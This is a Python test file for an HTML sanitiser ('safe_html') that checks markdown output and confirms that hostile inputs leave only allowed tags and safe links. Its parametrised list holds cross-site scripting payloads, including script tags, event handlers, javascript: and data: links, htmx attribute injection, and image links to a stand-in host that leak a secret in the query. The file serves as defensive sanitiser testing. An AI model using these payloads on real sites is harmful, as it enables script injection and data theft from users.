import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from panel.ui.prose import TAGS, safe_html


def test_markdown_becomes_plain_structure() -> None:
    html = safe_html("# Title\n\n- one\n- **two**\n\n`code`\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    for part in ("<h1>Title</h1>", "<li>one</li>", "<strong>two</strong>", "<code>code</code>", "<td>1</td>"):
        assert part in html


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.example/?q=secret)",
        "[x](javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        '<b hx-get="/people/" hx-trigger="load">x</b>',
        '<div data-hx-post="/x">x</div>',
        "<svg onload=alert(1)>",
        "<style>body{display:none}</style>",
        "![a][b]\n\n[b]: https://evil.example/p.png",
        '[x](https://e.example "t\\" hx-get=/x")',
    ],
)
def test_nothing_live_survives(hostile: str) -> None:
    html = safe_html(hostile)
    tags = re.findall(r"<(\w+)([^>]*)>", html)
    assert all(name in TAGS for name, _ in tags)
    assert all(re.fullmatch(r'( href="https?://[^"]*"| rel="noopener noreferrer nofollow")*', rest) for _, rest in tags)


@given(st.text(alphabet=st.sampled_from("<>&\"'!()[]`*_ aximghrefsc=:/\n"), max_size=200))
def test_random_markup_yields_only_listed_tags(text: str) -> None:
    assert all(name in TAGS for name in re.findall(r"<(\w+)", safe_html(text)))
